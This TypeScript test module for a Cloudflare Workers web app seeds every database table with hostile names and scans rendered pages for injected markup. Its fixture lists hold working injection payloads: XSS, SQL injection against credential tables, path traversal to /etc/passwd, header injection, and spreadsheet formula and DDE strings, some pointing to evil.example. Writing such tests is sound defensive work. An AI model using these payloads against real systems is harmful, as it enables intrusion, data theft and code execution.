/** What attackers send, and a bridge whose every stored name is hostile: for the tests that walk all routes and pages. */
import { env, exports } from 'cloudflare:workers';
import { API_TOKEN, ORIGIN, signIn } from './site.ts';

/** Element and attribute that no page of the bridge has: whoever finds one has found an injection. */
const CANARY_TAG = 'xss-canary';

/** Names as an ACD could send them. Each breaks out of another place: text, attribute, script, title, address, cell. */
export const HOSTILE_NAMES: readonly string[] = [
  `<${CANARY_TAG} onclick=xss()>`,
  `"><script>xss()</script><${CANARY_TAG} a="`,
  `' autofocus onfocus='xss()' x='`,
  `</title></textarea></script></style><${CANARY_TAG}>`,
  'javascript:xss()//',
  '=HYPERLINK("https://evil.example","x")',
  '+1;2,3\r\n=cmd|/C calc!A0',
  `&lt;${CANARY_TAG}&gt; &#60;${CANARY_TAG}>`,
  '<!--<img src=//evil.example/x hx-get=//evil.example hx-trigger=load>',
];

/** Values for parameters: SQL, paths, templates, headers, numbers at the edges, other encodings, sheer length. */
export const HOSTILE_VALUES: readonly string[] = [
  "1' OR '1'='1",
  '1; DROP TABLE connection--',
  "') UNION SELECT sealed FROM credential--",
  '%',
  '../../../../etc/passwd',
  '..%2f..%2fsecrets.json',
  '%00',
  '\u0000',
  '\r\nset-cookie: a=b',
  '{{7*7}}#{7*7}<%= 7*7 %>',
  '__proto__',
  'constructor',
  '-1',
  '0',
  '1e309',
  '9007199254740993',
  'NaN',
  '１２',
  '\ud800',
  '9999-12-31T23:59:59Z',
  '-000001-01-01T00:00:00Z',
  `<${CANARY_TAG}>`,
  'x'.repeat(8_000),
];

/** The same for JSON bodies, where a value can be of any type. */
export const HOSTILE_JSON: readonly unknown[] = [
  ...HOSTILE_VALUES.filter((value) => value.length < 100),
  null,
  true,
  -1,
  1e308,
  Number.MAX_SAFE_INTEGER,
  0.1,
  [],
  [[[[]]]],
  {},
  { $ne: null },
  'x'.repeat(20_000),
];

/** Columns whose content the bridge itself makes and parses: a person's or another company's text never gets there. */
const OWN_COLUMNS =
  /^(?:settings|sealed|address_sealed|secret_sealed|sha256|body_sha256|fingerprint|changes|rows|record|refused|remarks|content|time_zone)$/;

/** Kinds that the schema does not list, but the code that alone writes them does. */
const OWN_PLACES: readonly string[] = ['alert.kind'];

/**
 * Puts `name` into every text column of every row that the schema lets take it, whatever tables there are. Returns the
 * places, as `table.column`.
 */
export async function poisonDatabase(name: string): Promise<string[]> {
  const places: string[] = [];
  const { results: tables } = await env.DB.prepare(
    `SELECT name FROM sqlite_master WHERE type = 'table' AND name NOT LIKE 'sqlite_%' AND name NOT LIKE '\\_%' ESCAPE '\\'
       AND name NOT IN ('d1_migrations', 'session', 'login_attempt', 'heartbeat')`,
  ).all<{ name: string }>();
  for (const { name: table } of tables) {
    const { results: columns } = await env.DB.prepare(`PRAGMA table_info(${table})`).all<{
      name: string;
      type: string;
      pk: number;
    }>();
    for (const column of columns.filter(
      ({ type, pk, name }) =>
        type === 'TEXT' && pk === 0 && !OWN_COLUMNS.test(name) && !OWN_PLACES.includes(`${table}.${name}`),
    )) {
      const done = await env.DB.prepare(`UPDATE ${table} SET ${column.name} = ?1`)
        .bind(name)
        .run()
        .then(
          () => true,
          // A CHECK or UNIQUE of the schema keeps it out: nobody else gets it in there, either.
          (error: Error) => !/constraint/i.test(error.message) && Promise.reject(error),
        );
      if (done) places.push(`${table}.${column.name}`);
    }
  }
  return places;
}

const AT = Date.UTC(2026, 0, 5, 12);

/** At least one row in every table of the schema, so that every page has something to show. */
export async function fillEveryTable(connectionId: number, name: string): Promise<void> {
  const record = JSON.stringify({ loginId: name, [name]: [name] });
  const refused = JSON.stringify([[2, name]]);
  const remarks = JSON.stringify([name]);
  const table = `sourceId,name\r\nq1,"${name.replaceAll('"', '""')}"\r\n`;
  const statements: readonly string[] = [
    `INSERT INTO queue (id, connection_id, source_id, name, queue_value, in_roster, first_seen_ms)
       VALUES (1, ?1, 'q1', 'n', 'v', 1, ?2)`,
    `INSERT INTO agent (id, connection_id, source_id, username, name, login_id, employee_id, in_roster, first_seen_ms, held_count)
       VALUES (1, ?1, 'a1', 'u', 'n', 'l', 'e', 1, ?2, 1)`,
    `INSERT INTO acd_state (id, connection_id, name, reason, class, event_code, reason_code, first_seen_ms, last_seen_ms)
       VALUES (1, ?1, 'n', 'r', 'ready', 'e', 'c', ?2, ?2)`,
    'INSERT INTO state_change (agent_id, at_ms, state_id) VALUES (1, ?2, 1), (1, ?2 + 60000, 1)',
    `INSERT INTO state_log (connection_id, log_id, from_ms, until_ms, polls, read_count, change_count, changes, cursor_log_id, cursor_offset, delivered_count, set_aside_count)
       VALUES (?1, 1, ?2, ?2, 1, 1, 1, '[[1,1,1]]', 1, 0, 0, 0)`,
    `INSERT INTO feed (connection_id, name, failures, failing_since_ms, error, error_kind) VALUES (?1, 'roster', 3, ?2, 'e', 'shape')
       ON CONFLICT DO UPDATE SET failures = 3, failing_since_ms = ?2, error = 'e'`,
    `INSERT INTO stream (connection_id, name, failures, failing_since_ms, error, error_kind) VALUES (?1, 'historical', 3, ?2, 'e', 'status')
       ON CONFLICT DO UPDATE SET failures = 3, failing_since_ms = ?2, error = 'e'`,
    `INSERT INTO queue_interval (connection_id, start_ms, queue_id, offered, abandoned, handle_time_ms, read_at_ms) VALUES (?1, ?2, 1, 1, 0, 1, ?2)`,
    `INSERT INTO queue_interval_revision (connection_id, start_ms, queue_id, revision, offered, abandoned, handle_time_ms, inferred, read_at_ms)
       VALUES (?1, ?2, 1, 1, 1, 0, 1, 0, ?2)`,
    `INSERT INTO interval_ledger (connection_id, start_ms, status, reason, revision) VALUES (?1, ?2, 'gap', 'r', 1), (?1, ?2 + 900000, 'collected', 'r', 1)`,
    `INSERT INTO report (connection_id, stream, start_ms, end_ms, revision, record_count, created_at_ms) VALUES (?1, 'historical', ?2, ?2 + 900000, 1, 1, ?2)`,
    `INSERT INTO report_body (connection_id, stream, start_ms, revision, part, sent_at_ms, answer, sha256) VALUES (?1, 'historical', ?2, 1, 0, ?2, 'a', 's')`,
    `INSERT INTO set_aside (id, connection_id, stream, at_ms, record_key, record, http_status, reason)
       VALUES (1, ?1, 'agent-states', ?2, 'k', ?3, 400, 'r')`,
    `INSERT INTO backfill (id, connection_id, from_ms, to_ms, next_end_ms, status, error, created_by, created_at_ms, updated_at_ms)
       VALUES (1, ?1, ?2, ?2 + 900000, ?2, 'paused', 'e', 'b', ?2, ?2)`,
    `INSERT INTO event (connection_id, at_ms, kind, severity, message) VALUES (?1, ?2, 'k', 'error', 'm')`,
    `INSERT INTO code_book (connection_id, event_code, reason_code, first_sent_ms, last_sent_ms) VALUES (?1, 'e', 'r', ?2, ?2)`,
    `INSERT INTO sign_in (connection_id, fingerprint, blocked_until_ms, refused_count, refused_reason) VALUES (?1, 'f', ?2, 1, 'r')`,
    `INSERT INTO audit (at_ms, by, action, connection_id, detail) VALUES (?2, 'b', 'a', ?1, 'd')`,
    `INSERT INTO api_token (name, scope, sha256, hint, created_at_ms, created_by) VALUES ('n', 'read', 'x', 'h', ?2, 'b')`,
    `INSERT INTO mapping_upload (id, connection_id, kind, content, created_at_ms, created_by) VALUES (1, ?1, 'queues', ?6, ?2, 'b')`,
    `INSERT INTO import (id, connection_id, kind, file_name, sha256, status, from_ms, to_ms, row_count, refused_count, refused, remarks, new_count, changed_count, same_count, part_count, error, created_by, created_at_ms, updated_at_ms)
       VALUES (1, ?1, 'intervals', 'f.csv', 'x', 'read', ?2, ?2, 1, 1, ?4, ?5, 1, 0, 0, 0, 'e', 'b', ?2, ?2)`,
    `INSERT INTO alert_channel (id, name, kind, address_sealed, host, error, created_by, created_at_ms) VALUES (1, 'n', 'slack', 's', 'h', 'e', 'b', ?2)`,
    `INSERT INTO alert_rule (id, connection_id, kind, threshold, created_by, created_at_ms) VALUES (1, ?1, 'stale', 1, 'b', ?2)`,
    `INSERT INTO alert (id, rule_id, connection_id, kind, message, opened_at_ms) VALUES (1, 1, ?1, 'stale', 'm', ?2)`,
    `INSERT INTO alert_message (alert_id, occasion, channel_id) VALUES (1, 'opened', 1)`,
    `INSERT INTO setup_tick (step, at_ms, by) SELECT 'codes', ?2, 'b' WHERE ?1 IS NOT NULL`,
    'INSERT INTO agent_interval SELECT ?1, ?2, 1, 900000, 600000, 300000, 1, ?2',
    'INSERT INTO agent_queue_interval SELECT ?1, ?2, 1, 1, 1, 1000, 0, 0, 1, ?2',
    'INSERT INTO touched_interval (connection_id, start_ms) VALUES (?1, ?2)',
    'INSERT INTO held_change (agent_id, at_ms, times) SELECT 1, ?2, 1 WHERE ?1 IS NOT NULL',
    'INSERT INTO ledger_proof SELECT ?1, ?2 - ?2 % 86400000, ?2, 1, 0',
    'INSERT INTO member (connection_id, member_id, first_heard_ms) VALUES (?1, 1, ?2)',
    'INSERT INTO member_state_change (agent_id, member_id, at_ms, state_id) SELECT 1, 1, ?2, 1 WHERE ?1 IS NOT NULL',
    'INSERT INTO member_interval (connection_id, start_ms, member_id, handed_over_at_ms) VALUES (?1, ?2, 1, ?2)',
    'INSERT INTO member_agent_interval SELECT ?1, ?2, 1, 1, 900000, 600000, 300000',
    `INSERT INTO merge_rule (connection_id, precedence) SELECT ?1, '{}' WHERE ?2 IS NOT NULL`,
    `INSERT INTO push_receipt (connection_id, key_sha256, request_sha256, answer, created_at_ms) VALUES (?1, 'k', 'r', '{}', ?2)`,
    `INSERT INTO schedule_activity (connection_id, agent_id, start_ms, end_ms, activity) VALUES (?1, 1, ?2, ?2 + 3600000, 'n')`,
    `INSERT INTO adherence_rule (connection_id, activity, name, classes) VALUES (?1, 'n', 'n', '["ready"]')`,
    'INSERT INTO adherence_setting (connection_id, grace_ms) SELECT ?1, 60000 WHERE ?2 IS NOT NULL',
    `INSERT INTO schedule_upload (id, connection_id, file_name, row_count, refused_count, refused, created_at_ms, created_by)
       VALUES (1, ?1, 'f.csv', 0, 1, ?4, 4102444800000, 'b')`,
    `INSERT INTO schedule_upload_part (upload_id, kind, part, rows) SELECT 1, 'days', 0, '[]' WHERE ?1 IS NOT NULL`,
    `INSERT INTO maintenance (id, connection_id, from_ms, to_ms, note, created_by, created_at_ms) VALUES (1, ?1, ?2, ?2 + 1, 'n', 'b', ?2)`,
  ];
  await env.DB.batch(
    statements.map((sql) => {
      // D1 takes exactly the parameters that a statement names, counted from the first.
      const count = Math.max(0, ...[...sql.matchAll(/\?(\d)/g)].map(([, number]) => Number(number)));
      return env.DB.prepare(sql).bind(...[connectionId, AT, record, refused, remarks, table].slice(0, count));
    }),
  );
}

/** A text column that nobody can fill has no page to show it on: every table needs a row for these tests to mean it. */
export async function emptyTables(): Promise<string[]> {
  const { results } = await env.DB.prepare(
    `SELECT name FROM sqlite_master WHERE type = 'table' AND name NOT LIKE 'sqlite_%' AND name NOT LIKE '\\_%' ESCAPE '\\'`,
  ).all<{ name: string }>();
  const counts = await env.DB.batch<{ count: number }>(
    results.map(({ name }) => env.DB.prepare(`SELECT count(*) AS count FROM ${name}`)),
  );
  return results.filter((_, index) => counts[index]?.results[0]?.count === 0).map(({ name }) => name);
}

/** What a page holds that came from a name and should not have: elements, handlers, addresses of elsewhere. */
export async function injectionsIn(response: Response): Promise<string[]> {
  const found: string[] = [];
  await new HTMLRewriter()
    .on('*', {
      element(element) {
        if (element.tagName === CANARY_TAG) found.push(`element ${CANARY_TAG}`);
        const attributes = Array.from(
          element.attributes as unknown as Iterable<string[]>,
          ([name = '', value = '']) => ({
            name,
            value,
          }),
        );
        const isOwnScript = /^\/static\//.test(element.getAttribute('src') ?? '');
        if (element.tagName === 'script' && !isOwnScript) found.push('a script in the page');
        for (const { name, value } of attributes) {
          if (/^on|^style$|^srcdoc$/.test(name)) found.push(`attribute ${name} of ${element.tagName}`);
          const leads = /^(?:href|src|action|formaction|hx-(?:get|post|put|patch|delete))$/.test(name);
          if (leads && !/^(?:\/(?![/\\])|[#?]|$)/.test(value)) found.push(`${name} leads to ${value.slice(0, 80)}`);
        }
      },
    })
    .transform(response)
    .text();
  return found;
}

/** Addresses of this site that a page leads to with GET: links, parts, and filters with their first choices. */
export async function linksIn(response: Response): Promise<string[]> {
  const links: string[] = [];
  let form: URLSearchParams | null = null;
  let action = '';
  const rewriter = new HTMLRewriter()
    .on('a[href], [hx-get]', {
      element(element) {
        links.push(element.getAttribute('href') ?? '', element.getAttribute('hx-get') ?? '');
      },
    })
    .on('form', {
      element(element) {
        form = element.getAttribute('method')?.toLowerCase() === 'post' ? null : new URLSearchParams();
        action = element.getAttribute('action') ?? '';
        element.onEndTag(() => {
          if (form) links.push(`${action}?${form}`);
          form = null;
        });
      },
    })
    .on('input[name], select[name]', {
      element(element) {
        form?.append(element.getAttribute('name') ?? '', element.getAttribute('value') ?? '');
      },
    });
  await rewriter.transform(response).text();
  return links.filter((link) => /^\/(?!\/)/.test(link)).map((link) => link.replace(/#.*/, ''));
}

/** A request without any sign-in; unlike `ask` it keeps nothing of the answer. */
export function send(path: string, init: RequestInit = {}): Promise<Response> {
  return exports.default.fetch(`${ORIGIN}${path}`, { redirect: 'manual', ...init });
}

/** A browser that is signed in again by itself after something has ended its session. */
export function visitor(): (path: string, init?: RequestInit) => Promise<Response> {
  let session: Promise<string> | null = null;
  return async (path, init = {}) => {
    for (let tries = 0; ; tries += 1) {
      session ??= signIn();
      const present = session;
      const headers = new Headers(init.headers);
      headers.set('cookie', await present);
      const response = await send(path, { ...init, headers });
      if (response.status !== 401 || tries > 5) return response;
      if (session === present) session = null;
    }
  };
}

/** A script with the deployment's token. */
export function script(path: string, init: RequestInit = {}): Promise<Response> {
  const headers = new Headers(init.headers);
  headers.set('authorization', `Bearer ${API_TOKEN}`);
  return send(path, { ...init, headers });
}
